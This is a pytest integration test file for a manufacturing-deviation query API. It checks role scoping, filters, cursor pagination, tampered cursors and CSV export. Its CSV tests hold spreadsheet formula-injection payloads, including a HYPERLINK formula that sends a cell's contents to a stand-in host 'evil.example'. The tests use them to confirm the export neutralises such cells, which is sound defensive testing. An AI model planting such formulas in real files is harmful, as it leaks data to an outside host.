"""The query API against a real ClickHouse holding a small hand-built network (api_network.py).

Role edges (401 / 403 / scoping), filters, cursor pagination, CSV export, batch context, the
views' figures and the live SSE stream with resume.
"""

from __future__ import annotations

import base64
import csv
import io
import json
import time
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from typing import Any

import httpx
import pytest
from atmpnet.api.app import ApiServer, create_api
from atmpnet.contract.codec import AvroCodec
from atmpnet.contract.events import DeviationTransition, ProcessStep
from atmpnet.settings import ApiToken, Settings
from atmpnet.warehouse.migrations import apply_migrations
from clickhouse_connect.driver.client import Client
from fastapi.testclient import TestClient

from tests.integration.api_network import (
    EXPECTED,
    T0,
    NetworkBuilder,
    api_tokens,
    build_network,
    scratch_database,
    store,
)

pytestmark = pytest.mark.integration

SECRETS = {"ops": "ops-secret-1", "quality": "quality-secret-1", "site-a": "site-a-secret-1"}


def tokens() -> list[ApiToken]:
    """One token per role; the site token configured by its digest only, as production should."""
    return api_tokens(SECRETS["ops"], SECRETS["quality"], SECRETS["site-a"])


def auth(name: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {SECRETS[name]}"}


@pytest.fixture(scope="module")
def network_db(clickhouse_settings: Settings, codec: AvroCodec) -> Iterator[Client]:
    with scratch_database(clickhouse_settings, "test_api_") as client:
        store(client, codec, build_network())
        yield client


@pytest.fixture(scope="module")
def api(network_db: Client, clickhouse_settings: Settings) -> TestClient:
    return TestClient(create_api(clickhouse_settings, network_db, tokens=tokens()))


def ids(response: httpx.Response) -> list[str]:
    assert response.status_code == 200, response.text
    return [i["deviation_id"] for i in response.json()["items"]]


# --- 401 / 403 edges ------------------------------------------------------------------------


@pytest.mark.parametrize(
    "path",
    [
        "/api/v1/deviations",
        "/api/v1/deviations.csv",
        "/api/v1/deviations/D1",
        "/api/v1/deviations/stream",
        "/api/v1/capacity",
        "/api/v1/drift",
        "/api/v1/performance",
    ],
)
@pytest.mark.parametrize("header", [None, "Bearer wrong-token", "Basic b3BzOm9wcw==", "Bearer "])
def test_every_endpoint_refuses_a_missing_or_unknown_token(
    api: TestClient, path: str, header: str | None
) -> None:
    r = api.get(path, headers={"Authorization": header} if header else {})
    assert r.status_code == 401
    assert r.headers["www-authenticate"] == "Bearer"


@pytest.mark.parametrize(
    "path",
    [
        "/api/v1/deviations",
        "/api/v1/capacity",
        "/api/v1/drift",
        "/api/v1/performance",
        "/api/v1/deviations.csv",
    ],
)
def test_a_site_token_asking_for_another_site_gets_403(api: TestClient, path: str) -> None:
    assert api.get(path, params={"site": "site-b"}, headers=auth("site-a")).status_code == 403
    assert api.get(path, params={"site": "site-a"}, headers=auth("site-a")).status_code == 200


def test_a_site_token_without_a_site_filter_sees_only_its_own_site(api: TestClient) -> None:
    body = api.get("/api/v1/deviations", headers=auth("site-a")).json()
    assert body["site_scope"] == "site-a"
    assert {i["site_id"] for i in body["items"]} == {"site-a"}
    assert len(body["items"]) == EXPECTED["deviations"]["site-a"]
    capacity = api.get("/api/v1/capacity", headers=auth("site-a")).json()
    assert [s["site_id"] for s in capacity["sites"]] == ["site-a"]
    assert {lane["site_id"] for lane in capacity["lanes"]} == {"site-a"}
    drift = api.get("/api/v1/drift", headers=auth("site-a")).json()
    assert {m["site_id"] for m in drift["modules"]} == {"site-a"}
    performance = api.get("/api/v1/performance", headers=auth("site-a")).json()
    assert [s["site_id"] for s in performance["sites"]] == ["site-a"]
    assert performance["network"]["success_rate"] == pytest.approx(0.75)  # medians still over every site
    assert api.get("/api/v1/sites", headers=auth("site-a")).json()["sites"] == ["site-a"]


def test_another_sites_deviation_or_batch_answers_as_one_that_does_not_exist(api: TestClient) -> None:
    """No existence oracle: a site token gets the same 404 for another site's id and for no id."""
    foreign = api.get("/api/v1/deviations/D4", headers=auth("site-a"))  # site-b's
    missing = api.get("/api/v1/deviations/NOPE", headers=auth("site-a"))
    assert (foreign.status_code, missing.status_code) == (404, 404)
    assert foreign.json() == {"detail": "no deviation D4"} and missing.json() == {
        "detail": "no deviation NOPE"
    }
    assert api.get("/api/v1/deviations/D4", headers=auth("quality")).status_code == 200
    assert api.get("/api/v1/deviations/D1", headers=auth("site-a")).status_code == 200
    for path in ("/api/v1/batches/{}/digest", "/api/v1/batches/{}/digest.html"):
        foreign = api.get(path.format("B1"), headers=auth("site-a"))  # site-b's batch
        missing = api.get(path.format("NO-SUCH"), headers=auth("site-a"))
        assert (foreign.status_code, missing.status_code) == (404, 404)
        assert foreign.json() == {"detail": "no batch B1"} and missing.json() == {
            "detail": "no batch NO-SUCH"
        }
        assert api.get(path.format("B1"), headers=auth("quality")).status_code == 200
        assert api.get(path.format("A1"), headers=auth("site-a")).status_code == 200
    for view, key in (("deviation_triage", "D4"), ("batch_status", "B1")):
        params = {"view": view, "key": key}
        foreign = api.get("/api/v1/attribution", params=params, headers=auth("site-a"))
        missing = api.get("/api/v1/attribution", params=params | {"key": "NO-SUCH"}, headers=auth("site-a"))
        assert (foreign.status_code, missing.status_code) == (404, 404)
        assert foreign.json()["detail"] == f"no {view} row {key}"
        assert api.get("/api/v1/attribution", params=params, headers=auth("quality")).status_code == 200


SITE_SCOPED = [
    "/api/v1/deviations",
    "/api/v1/capacity",
    "/api/v1/drift",
    "/api/v1/performance",
    "/api/v1/completeness",
    "/api/v1/integrity/findings",
    "/api/v1/sites",
]


@pytest.mark.parametrize("path", SITE_SCOPED)
def test_a_site_tokens_answers_name_nothing_of_another_site(api: TestClient, path: str) -> None:
    r = api.get(path, headers=auth("site-a"))
    assert r.status_code == 200, r.text
    # site-b's site id, modules and batches appear nowhere (performance keeps network medians only)
    for other in ("site-b", "b-m1", '"B1"', '"B2"', '"B3"', '"D4"', '"D5"'):
        assert other not in r.text, (path, other)
    assert "site-b" in api.get(path, headers=auth("quality")).text or path == "/api/v1/integrity/findings"


def test_drift_version_skew_of_a_site_token_is_its_own_sites(api: TestClient) -> None:
    """Network skew counts site-b's module; a site token sees the skew among its own modules."""
    network = api.get("/api/v1/drift", headers=auth("quality")).json()["version_skew"]
    assert network[0]["versions"]["4.2.1"] == {"sites": 2, "modules": 2}
    own = api.get("/api/v1/drift", headers=auth("site-a")).json()
    assert own["version_skew"] == [
        {
            "module_type": "cliniprep-x",
            "component": "controller",
            "versions": {"4.2.1": {"sites": 1, "modules": 1}, "4.3.0": {"sites": 1, "modules": 1}},
        }
    ]
    # quality asking for one site gets the same scope
    assert api.get("/api/v1/drift", params={"site": "site-a"}, headers=auth("quality")).json() == own
    # site-b alone runs one version: no skew there
    only_b = api.get("/api/v1/drift", params={"site": "site-b"}, headers=auth("quality")).json()
    assert only_b["version_skew"] == []


def test_operations_sees_every_site_but_no_full_detail_and_no_export(api: TestClient) -> None:
    body = api.get("/api/v1/deviations", headers=auth("ops")).json()
    assert {i["site_id"] for i in body["items"]} == {"site-a", "site-b"}
    assert all(i.get("description") is None and i.get("raised_by") is None for i in body["items"])
    assert api.get("/api/v1/deviations/D1", headers=auth("ops")).status_code == 403
    assert api.get("/api/v1/deviations.csv", headers=auth("ops")).status_code == 403
    assert api.get("/api/v1/capacity", headers=auth("ops")).status_code == 200


def test_quality_gets_full_detail_and_export_for_every_site(api: TestClient) -> None:
    body = api.get("/api/v1/deviations", headers=auth("quality")).json()
    assert all(i["description"] and i["raised_by"] for i in body["items"])
    r = api.get("/api/v1/deviations.csv", headers=auth("quality"))
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(r.text)))
    assert sorted(row["deviation_id"] for row in rows) == sorted(EXPECTED["class"])
    assert {row["deviation_id"]: row["severity"] for row in rows}["D1"] == "CRITICAL"
    assert "confidential detail" in r.text


def test_site_csv_export_holds_only_its_own_site(api: TestClient) -> None:
    r = api.get("/api/v1/deviations.csv", headers=auth("site-a"))
    assert r.status_code == 200
    assert {row["site_id"] for row in csv.DictReader(io.StringIO(r.text))} == {"site-a"}


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ('=HYPERLINK("http://evil.example","x")', '\'=HYPERLINK("http://evil.example","x")'),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("plain text", "plain text"),
        ("a=b", "a=b"),
        ("", ""),
        (-3.5, -3.5),  # numbers stay numbers
        (-7, -7),
        (None, None),
        (False, False),
    ],
)
def test_csv_safe_prefixes_formula_text_only(value: Any, cell: Any) -> None:
    from atmpnet.api.deviations import csv_safe

    assert csv_safe(value) == cell


def test_csv_export_neutralises_formula_cells_and_keeps_negative_numbers(
    clickhouse: Client, clickhouse_settings: Settings, codec: AvroCodec
) -> None:
    apply_migrations(clickhouse)
    b = NetworkBuilder()
    b.deviation(
        "EVIL-1",
        DeviationTransition.RAISED,
        T0 + timedelta(days=11, hours=1),
        site="site-a",
        module="a-m1",
        lane=3,
        parameter="temperature",
        alarm_code="PRC-T2",
    )
    hyperlink = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
    b.events[-1] = b.events[-1].model_copy(
        update={"description": hyperlink, "raised_by": "@operator", "observed_value": -3.5, "limit_low": -2.0}
    )
    store(clickhouse, codec, [*build_network(), *b.events])
    api = TestClient(create_api(clickhouse_settings, clickhouse, tokens=tokens()))
    r = api.get("/api/v1/deviations.csv", headers=auth("quality"))
    assert r.status_code == 200
    rows = {row["deviation_id"]: row for row in csv.DictReader(io.StringIO(r.text))}
    evil = rows["EVIL-1"]
    assert evil["description"] == "'" + hyperlink
    assert evil["raised_by"] == "'@operator"
    assert (evil["observed_value"], evil["limit_low"]) == ("-3.5", "-2.0")  # numbers, unquoted
    assert float(evil["observed_value"]) == -3.5
    assert "\n=HYPERLINK" not in r.text and ",=HYPERLINK" not in r.text
    assert rows["D1"]["description"] == "D1 raised: confidential detail"  # plain text untouched
    assert len(rows) == len(EXPECTED["class"]) + 1


def test_csv_export_failing_midway_ends_with_an_error_line_and_an_aborted_body(
    network_db: Client, clickhouse_settings: Settings, monkeypatch: pytest.MonkeyPatch
) -> None:
    from atmpnet.api import deviations as deviations_api
    from atmpnet.errors import WarehouseError
    from atmpnet.warehouse.queries import Warehouse

    monkeypatch.setattr(deviations_api, "EXPORT_PAGE_ROWS", 2)
    real = Warehouse.deviations
    calls = {"n": 0, "fail_at": 2}

    def failing(self: Warehouse, *args: Any, **kwargs: Any) -> Any:
        calls["n"] += 1
        if calls["n"] == calls["fail_at"]:
            raise WarehouseError("query failed: injected")
        return real(self, *args, **kwargs)

    monkeypatch.setattr(Warehouse, "deviations", failing)
    app = create_api(clickhouse_settings, network_db, tokens=tokens())
    with ApiServer(app) as server, httpx.Client(base_url=server.url, timeout=10) as http:
        received: list[bytes] = []

        def download() -> None:
            with http.stream("GET", "/api/v1/deviations.csv", headers=auth("quality")) as r:
                assert r.status_code == 200
                received.extend(r.iter_raw())

        with pytest.raises(httpx.HTTPError) as aborted:  # no final chunk: the transfer is incomplete
            download()
        assert isinstance(aborted.value, httpx.RemoteProtocolError | httpx.ReadError), aborted.value
        text = b"".join(received).decode()
        lines = text.splitlines()
        assert lines[0].startswith("deviation_id,") and len(lines) == 1 + 2 + 1  # header, page 1, marker
        assert lines[-1] == "#ERROR: export incomplete: query failed; this file is truncated"
        # a failure before the first page is an error status, not a 200 with an empty file
        calls.update(n=0, fail_at=1)
        r = http.get("/api/v1/deviations.csv", headers=auth("quality"))
        assert r.status_code == 503
        # and without a failure the same small pages make the whole file
        calls.update(n=0, fail_at=-1)
        r = http.get("/api/v1/deviations.csv", headers=auth("quality"))
        assert r.status_code == 200 and "#ERROR" not in r.text
        assert len(list(csv.DictReader(io.StringIO(r.text)))) == len(EXPECTED["class"])


def test_csv_export_pages_come_from_one_view_generation(network_db: Client) -> None:
    from atmpnet.warehouse.queries import DeviationFilter, ViewMoved, Warehouse
    from atmpnet.warehouse.views import refresh_views

    wh = Warehouse(network_db)
    # one refresh between pages: the pinned generation is still kept, the pages are one snapshot
    pages = wh.deviation_pages(DeviationFilter(), sort="raised_at", block=2)
    walked = [i["deviation_id"] for i in next(pages)]
    pinned = wh.committed_generation()
    assert pinned is not None
    refresh_views(network_db)
    walked += [i["deviation_id"] for page in pages for i in page]
    assert walked == ["D1", "D6", "D5", "D2", "D3", "D4"]
    # the view moved on twice during an export: its generation's rows are gone, the export says so
    pages = wh.deviation_pages(DeviationFilter(), sort="raised_at", block=2)
    next(pages)
    refresh_views(network_db)
    refresh_views(network_db)
    with pytest.raises(ViewMoved, match="run the export again"):
        next(pages)


NOT_CLOSED = {"CRITICAL": 0, "MAJOR": 0, "MINOR": 4}  # D2, D3, D4 open and D6 investigating


def _overdue_not_closed(items: list[dict[str, Any]]) -> int:
    return sum(1 for i in items if i["status"] != "CLOSED" and i["overdue"])


def test_counts_cover_every_match_not_the_page(api: TestClient) -> None:
    every = api.get("/api/v1/deviations", params={"limit": 1000}, headers=auth("quality")).json()["items"]
    # a page of two: the counts still hold all six (what the triage headline shows)
    body = api.get("/api/v1/deviations", params={"limit": 2}, headers=auth("quality")).json()
    assert len(body["items"]) == 2 and body["next_cursor"] is not None
    assert body["counts"] == {"total": 6, "not_closed": NOT_CLOSED, "overdue": _overdue_not_closed(every)}
    # the next page answers the same counts (they do not depend on the cursor)
    more = api.get(
        "/api/v1/deviations", params={"limit": 2, "cursor": body["next_cursor"]}, headers=auth("quality")
    ).json()
    assert more["counts"] == body["counts"]
    summary = api.get("/api/v1/deviations/summary", headers=auth("ops")).json()
    assert summary == {"counts": body["counts"], "site_scope": None}


@pytest.mark.parametrize(
    ("role", "params", "total", "not_closed"),
    [
        # the status filter's OPEN excludes INVESTIGATING (D6); "not closed" counts both
        ("quality", {"status": "OPEN"}, 3, {"CRITICAL": 0, "MAJOR": 0, "MINOR": 3}),
        ("quality", {"status": "CLOSED"}, 2, {"CRITICAL": 0, "MAJOR": 0, "MINOR": 0}),
        ("quality", {"site": "site-b"}, 2, {"CRITICAL": 0, "MAJOR": 0, "MINOR": 1}),
        ("site-a", {}, 4, {"CRITICAL": 0, "MAJOR": 0, "MINOR": 3}),  # its own site only
    ],
)
def test_counts_follow_the_filters_and_the_site_scope(
    api: TestClient, role: str, params: dict[str, Any], total: int, not_closed: dict[str, int]
) -> None:
    listed = api.get("/api/v1/deviations", params={**params, "limit": 1}, headers=auth(role)).json()
    summary = api.get("/api/v1/deviations/summary", params=params, headers=auth(role)).json()
    every = api.get("/api/v1/deviations", params={**params, "limit": 1000}, headers=auth(role)).json()[
        "items"
    ]
    expected = {"total": total, "not_closed": not_closed, "overdue": _overdue_not_closed(every)}
    assert listed["counts"] == expected and summary["counts"] == expected
    assert summary["site_scope"] == ("site-a" if role == "site-a" else None)


def test_a_summary_for_another_site_is_403_for_a_site_token(api: TestClient) -> None:
    r = api.get("/api/v1/deviations/summary", params={"site": "site-b"}, headers=auth("site-a"))
    assert r.status_code == 403


def test_the_list_reads_its_page_and_counts_from_one_pinned_generation(network_db: Client) -> None:
    from atmpnet.warehouse.queries import DeviationFilter, Warehouse

    wh = Warehouse(network_db)
    seen: list[Any] = []
    page_of, counts_of = wh.deviations, wh.deviation_counts

    def page(*args: Any, **kwargs: Any) -> Any:
        seen.append(("page", kwargs["generation"]))
        return page_of(*args, **kwargs)

    def counts(*args: Any, **kwargs: Any) -> Any:
        seen.append(("counts", kwargs["generation"]))
        return counts_of(*args, **kwargs)

    wh.deviations, wh.deviation_counts = page, counts  # type: ignore[method-assign]
    got, totals = wh.deviations_with_counts(DeviationFilter(), limit=2)
    generation = wh.committed_generation()
    assert generation is not None
    assert seen == [("page", generation), ("counts", generation)]
    assert len(got.items) == 2 and totals["total"] == 6


@pytest.mark.parametrize(
    "path", ["/api/v1/deviations", "/api/v1/deviations/summary", "/api/v1/deviations.csv"]
)
def test_from_later_than_to_is_a_422_like_any_bad_filter(api: TestClient, path: str) -> None:
    r = api.get(
        path, params={"from": "2026-03-08T00:00:00Z", "to": "2026-03-06T00:00:00Z"}, headers=auth("quality")
    )
    assert r.status_code == 422, r.text
    assert "from is later than to" in r.text
    assert api.get(path, params={"severity": "SEVERE"}, headers=auth("quality")).status_code == 422
    # an empty range (from = to) is a valid filter that matches nothing
    same = {"from": "2026-03-06T00:00:00Z", "to": "2026-03-06T00:00:00Z"}
    assert api.get(path, params=same, headers=auth("quality")).status_code == 200


@pytest.fixture
def with_an_old_critical(clickhouse: Client, clickhouse_settings: Settings, codec: AvroCodec) -> TestClient:
    """The network plus OLD-1: a critical deviation raised early and never closed (overdue)."""
    apply_migrations(clickhouse)
    b = NetworkBuilder()
    b.formulation_excursion("OLD-1", DeviationTransition.RAISED, T0 + timedelta(hours=1))
    store(clickhouse, codec, [*build_network(), *b.events])
    return TestClient(create_api(clickhouse_settings, clickhouse, tokens=tokens()))


def test_counts_hold_an_overdue_deviation_that_is_not_on_the_page(with_an_old_critical: TestClient) -> None:
    api = with_an_old_critical
    first = api.get("/api/v1/deviations", params={"limit": 3}, headers=auth("ops")).json()
    assert "OLD-1" not in [i["deviation_id"] for i in first["items"]]  # newest first: it is on a later page
    every = api.get("/api/v1/deviations", params={"limit": 1000}, headers=auth("ops")).json()["items"]
    old = next(i for i in every if i["deviation_id"] == "OLD-1")
    assert (old["severity"], old["status"], old["overdue"]) == ("CRITICAL", "OPEN", True)
    assert first["counts"] == {
        "total": 7,
        "not_closed": {**NOT_CLOSED, "CRITICAL": 1},
        "overdue": _overdue_not_closed(every),
    }
    assert first["counts"]["overdue"] >= 1
    summary = api.get("/api/v1/deviations/summary", params={"severity": "CRITICAL"}, headers=auth("ops"))
    assert summary.json()["counts"] == {
        "total": 2,  # D1 (closed) and OLD-1
        "not_closed": {"CRITICAL": 1, "MAJOR": 0, "MINOR": 0},
        "overdue": 1,
    }


def test_csv_writes_booleans_lowercase_and_hours_to_two_decimals(with_an_old_critical: TestClient) -> None:
    api = with_an_old_critical
    r = api.get("/api/v1/deviations.csv", headers=auth("quality"))
    rows = list(csv.DictReader(io.StringIO(r.text)))
    listed = {
        i["deviation_id"]: i for i in api.get("/api/v1/deviations", headers=auth("quality")).json()["items"]
    }
    assert {row["overdue"] for row in rows} <= {"true", "false"}
    assert {row["overdue"] for row in rows} == {"true", "false"}  # both occur in the network
    for row in rows:
        assert row["overdue"] == str(listed[row["deviation_id"]]["overdue"]).lower()
        hours = row["age_hours"]
        assert float(hours) == round(listed[row["deviation_id"]]["age_hours"], 2)
        assert "." not in hours or len(hours.split(".")[1]) <= 2, hours


@pytest.mark.parametrize(
    ("name", "value", "cell"),
    [
        ("overdue", True, "true"),
        ("overdue", False, "false"),
        ("age_hours", 19.123456789, 19.12),
        ("age_hours", -0.005001, -0.01),
        ("observed_value", 37.123456, 37.123456),  # only the hours are rounded
        ("description", "=cmd", "'=cmd"),
        ("lane", 3, 3),
    ],
)
def test_csv_cell(name: str, value: Any, cell: Any) -> None:
    from atmpnet.api.deviations import csv_cell

    assert csv_cell(name, value) == cell


def test_tokens_never_reach_the_log(api: TestClient, caplog: pytest.LogCaptureFixture) -> None:
    import logging

    with caplog.at_level(logging.DEBUG):
        api.get("/api/v1/deviations", headers=auth("quality"))
        api.get("/api/v1/deviations", headers={"Authorization": "Bearer not-a-real-token-xyz"})
    text = caplog.text + repr(tokens()) + str(tokens())
    assert "quality-secret-1" not in text and "not-a-real-token-xyz" not in text


# --- triage, filters, sort, pagination ------------------------------------------------------


def test_every_deviation_is_triaged_by_the_contract(api: TestClient) -> None:
    items = api.get("/api/v1/deviations", headers=auth("quality")).json()["items"]
    got = {i["deviation_id"]: (i["class"], i["severity"], i["status"]) for i in items}
    assert got == EXPECTED["class"]
    d1 = next(i for i in items if i["deviation_id"] == "D1")
    assert d1["priority"] == 1 and d1["age_hours"] == 19.0 and d1["overdue"] is False
    assert d1["due_at"] == "2026-03-06T05:00:00Z"
    versions = {i["deviation_id"]: i["software_version"] for i in items}
    assert (
        versions["D2"] == "controller=4.3.0" and versions["D1"] == "controller=4.2.1"
    )  # in force when raised


@pytest.mark.parametrize(
    ("params", "expected"),
    [
        ({"site": "site-b"}, {"D4", "D5"}),
        ({"module": "a-m1"}, {"D1", "D6"}),
        ({"lane": 2}, {"D5", "D6"}),
        ({"batch": "A3"}, {"D2", "D3"}),
        ({"step": "EXPANSION"}, {"D1", "D6"}),
        ({"parameter": "ph"}, {"D2", "D3"}),
        ({"severity": "MINOR"}, {"D2", "D3", "D4", "D6"}),
        ({"class": "DUPLICATE"}, {"D3"}),
        ({"status": "CLOSED"}, {"D1", "D5"}),
        ({"software_version": "4.3.0"}, {"D2", "D3"}),
        ({"from": "2026-03-06T00:00:00Z", "to": "2026-03-08T03:00:00Z"}, {"D2", "D5", "D6"}),
        ({"site": "site-a", "severity": "MINOR", "status": "OPEN"}, {"D2", "D3"}),
    ],
)
def test_filters(api: TestClient, params: dict[str, Any], expected: set[str]) -> None:
    assert set(ids(api.get("/api/v1/deviations", params=params, headers=auth("quality")))) == expected


def test_sorting(api: TestClient) -> None:
    newest_first = ids(api.get("/api/v1/deviations", headers=auth("quality")))
    assert newest_first == ["D4", "D3", "D2", "D5", "D6", "D1"]
    assert ids(api.get("/api/v1/deviations", params={"sort": "raised_at"}, headers=auth("quality"))) == list(
        reversed(newest_first)
    )
    by_severity = ids(api.get("/api/v1/deviations", params={"sort": "severity"}, headers=auth("quality")))
    assert by_severity[0] == "D1" and by_severity[1] == "D5"


@pytest.mark.parametrize("sort", ["-raised_at", "raised_at", "severity", "-severity", "site", "-status"])
def test_cursor_pagination_walks_every_deviation_once_in_a_stable_order(api: TestClient, sort: str) -> None:
    whole = ids(api.get("/api/v1/deviations", params={"sort": sort}, headers=auth("quality")))
    walked: list[str] = []
    cursor = None
    for _ in range(10):
        params: dict[str, Any] = {"sort": sort, "limit": 2} | ({"cursor": cursor} if cursor else {})
        r = api.get("/api/v1/deviations", params=params, headers=auth("quality"))
        walked += ids(r)
        cursor = r.json()["next_cursor"]
        if cursor is None:
            break
    assert walked == whole and len(set(walked)) == 6


def test_a_foreign_or_mismatched_cursor_is_a_400(api: TestClient) -> None:
    first = api.get("/api/v1/deviations", params={"limit": 2}, headers=auth("quality")).json()
    other_sort = {"limit": 2, "sort": "severity", "cursor": first["next_cursor"]}
    assert api.get("/api/v1/deviations", params=other_sort, headers=auth("quality")).status_code == 400
    garbage = {"cursor": "not-a-cursor!!"}
    assert api.get("/api/v1/deviations", params=garbage, headers=auth("quality")).status_code == 400
    assert (
        api.get("/api/v1/deviations", params={"severity": "HUGE"}, headers=auth("quality")).status_code == 422
    )


def _cursor(payload: Any) -> str:
    raw = json.dumps(payload).encode() if not isinstance(payload, bytes) else payload
    return base64.urlsafe_b64encode(raw).decode().rstrip("=")


@pytest.mark.parametrize(
    ("sort", "payload"),
    [
        ("-raised_at", {"s": "-raised_at", "v": ["yesterday", "D1"]}),  # a string for an Int64
        ("-raised_at", {"s": "-raised_at", "v": [1.5, "D1"]}),
        ("-raised_at", {"s": "-raised_at", "v": [2**63, "D1"]}),  # beyond Int64
        ("-raised_at", {"s": "-raised_at", "v": [True, "D1"]}),
        ("-raised_at", {"s": "-raised_at", "v": [None, "D1"]}),
        ("-raised_at", {"s": "-raised_at", "v": [1, 7]}),  # the id must be a string
        ("-raised_at", {"s": "-raised_at", "v": [1, ["D1"]]}),
        ("-raised_at", {"s": "-raised_at", "v": [1, "D1", 3]}),
        ("-raised_at", {"s": "-raised_at", "v": {"a": 1}}),
        ("-raised_at", {"s": 5, "v": [1, "D1"]}),
        ("-raised_at", [1, "D1"]),  # not an object
        ("-raised_at", "just a string"),
        ("severity", {"s": "severity", "v": [-1, "D1"]}),  # beyond UInt8
        ("severity", {"s": "severity", "v": [256, "D1"]}),
        ("severity", {"s": "severity", "v": ["MAJOR", "D1"]}),
        ("site", {"s": "site", "v": [5, "D1"]}),  # a number for a String
        ("-status", {"s": "-status", "v": [{"x": 1}, "D1"]}),
        ("-raised_at", b"\xff\xfe not utf-8"),
    ],
)
def test_a_tampered_cursor_is_a_400_with_a_clear_message_not_a_503(
    api: TestClient, sort: str, payload: Any
) -> None:
    r = api.get(
        "/api/v1/deviations", params={"sort": sort, "cursor": _cursor(payload)}, headers=auth("quality")
    )
    assert r.status_code == 400, r.text
    assert r.json()["detail"].startswith("cursor is not one this API issued")


def test_a_cursor_with_non_ascii_or_oversized_text_is_a_400(api: TestClient) -> None:
    for cursor in ("é" * 10, "A" * 5000, ""):
        r = api.get("/api/v1/deviations", params={"cursor": cursor}, headers=auth("quality"))
        assert r.status_code == 400, (cursor[:10], r.text)
    # a well-formed cursor of the right types still pages (after D4, the newest)
    page = api.get("/api/v1/deviations", params={"limit": 1}, headers=auth("quality")).json()
    r = api.get("/api/v1/deviations", params={"cursor": page["next_cursor"]}, headers=auth("quality"))
    assert ids(r)[0] == "D3"


def test_one_deviation_comes_with_its_batch_context(api: TestClient) -> None:
    d = api.get("/api/v1/deviations/D1", headers=auth("quality")).json()
    assert [h["transition"] for h in d["history"]] == ["RAISED", "UPDATED", "CLOSED"]
    assert d["resolution"] == "root cause fixed"
    steps = d["batch_steps"]
    assert len(steps) == 18 and {s["step"] for s in steps} == {
        s.value for s in ProcessStep
    }  # A1 ran to release
    assert len(d["sensor_summaries"]) == 6  # hourly windows within ±2 h of raised_at
    assert max(s["samples_outside_alert"] for s in d["sensor_summaries"]) == 12
    assert d["configuration"]["components"][0] == {
        "kind": "CONTROL_SOFTWARE",
        "name": "controller",
        "version": "4.2.1",
        "content_hash": d["configuration"]["components"][0]["content_hash"],
    }
    assert api.get("/api/v1/deviations/NOPE", headers=auth("quality")).status_code == 404


# --- views ----------------------------------------------------------------------------------


def test_capacity_figures(api: TestClient) -> None:
    cap = api.get("/api/v1/capacity", headers=auth("ops")).json()
    assert cap["as_of"] == "2026-03-12T12:00:00Z"
    for s in cap["sites"]:
        site = s["site_id"]
        assert (s["lanes"], s["busy"], s["down"]) == (
            EXPECTED["lanes"][site],
            EXPECTED["busy"][site],
            EXPECTED["down"][site],
        )
    busy = [lane for lane in cap["lanes"] if lane["state"] == "busy"]
    assert [(b["module_id"], b["lane"], b["batch_id"], b["step"]) for b in busy] == [
        ("a-m2", 1, "A3", "HARVEST")
    ]
    assert {(r["site_id"], r["step"]) for r in cap["in_progress"]} == {
        ("site-a", "HARVEST"),
        ("site-b", "ACTIVATION"),
    }
    # A3 is in HARVEST (started T0+11d); with HARVEST, FORMULATION, CRYOPRESERVATION at 24 h each it frees
    # its lane at T0+14d: busy on forecast days 1 and 2 (T0+12.5d, T0+13.5d), free from day 3
    free_a = [f["free_lanes"] for f in cap["forecast"] if f["site_id"] == "site-a"]
    assert free_a == [7, 7, 8, 8, 8, 8, 8]
    day = next(d for d in cap["daily"] if d["site_id"] == "site-b" and d["date"] == "2026-03-12")
    # the last day ends "now" (12:00, when the module went down): 4 lanes x 12 h, B3 busy throughout
    assert (
        day["available_lane_hours"] == 48.0 and day["busy_lane_hours"] == 12.0 and day["utilization"] == 0.25
    )
    starts = sum(d["starts"] for d in cap["daily"])
    assert starts == 6


def test_drift_figures(api: TestClient) -> None:
    drift = api.get("/api/v1/drift", headers=auth("ops")).json()
    states = {m["module_id"]: m["state"] for m in drift["modules"]}
    assert states == {"a-m1": "IN_BASELINE", "a-m2": "DRIFTED", "b-m1": "IN_BASELINE"}
    intervals = {(i["module_id"], i["opened_at"], i["closed_at"]): i["batches"] for i in drift["intervals"]}
    assert intervals == {
        ("a-m2", "2026-03-06T00:00:00Z", None): ["A3"],
        ("b-m1", "2026-03-03T00:00:00Z", "2026-03-05T00:00:00Z"): ["B1", "B2"],
    }
    cell = next(c for c in drift["matrix"] if c["site_id"] == "site-a" and c["component"] == "controller")
    assert (cell["modules"], cell["drifted"], cell["batches"]) == (2, 1, ["A3"])
    assert drift["version_skew"] == [
        {
            "module_type": "cliniprep-x",
            "component": "controller",
            "versions": {"4.2.1": {"sites": 2, "modules": 2}, "4.3.0": {"sites": 1, "modules": 1}},
        }
    ]


def test_performance_figures(api: TestClient) -> None:
    perf = api.get("/api/v1/performance", headers=auth("ops")).json()
    by_site = {s["site_id"]: s for s in perf["sites"]}
    for site in EXPECTED["sites"]:
        s = by_site[site]
        assert s["batches_started"] == EXPECTED["started"][site]
        assert s["batches_completed"] == EXPECTED["completed"][site]
        assert s["batches_failed"] == EXPECTED["failed"][site]
    a = by_site["site-a"]
    assert a["success_rate"] == 0.5
    assert a["success_interval"] == pytest.approx([0.0945312, 0.9054688], abs=1e-6)  # Wilson, 1 of 2
    # D3 duplicates D2: a duplicate is the same problem raised twice and counts once
    assert a["deviations_per_batch"] == pytest.approx(1.0)
    assert a["sensor_control"] == pytest.approx(1 - 12 / 420)
    assert a["cycle_time_days_p50"] == 10.0
    # per batch: deviations raised on a batch (site-b's module-level D4 has none)
    assert by_site["site-b"]["deviations_per_batch"] == pytest.approx(1 / 3)
    assert perf["network"]["deviations_per_batch"] == pytest.approx((1.0 + 1 / 3) / 2)
    expansion = next(r for r in perf["steps"] if r["site_id"] == "site-a" and r["step"] == "EXPANSION")
    assert (
        expansion["p50_hours"] == 24.0 and expansion["count"] == 2
    )  # A2's failed expansion has no COMPLETED


def test_openapi_documents_every_endpoint(api: TestClient) -> None:
    paths = api.get("/openapi.json").json()["paths"]
    for path in (
        "/api/v1/deviations",
        "/api/v1/deviations.csv",
        "/api/v1/deviations/{deviation_id}",
        "/api/v1/deviations/stream",
        "/api/v1/capacity",
        "/api/v1/drift",
        "/api/v1/performance",
    ):
        assert path in paths
    params = {p["name"] for p in paths["/api/v1/deviations"]["get"]["parameters"]}
    assert {"site", "module", "lane", "batch", "step", "parameter", "severity", "class", "status"} <= params
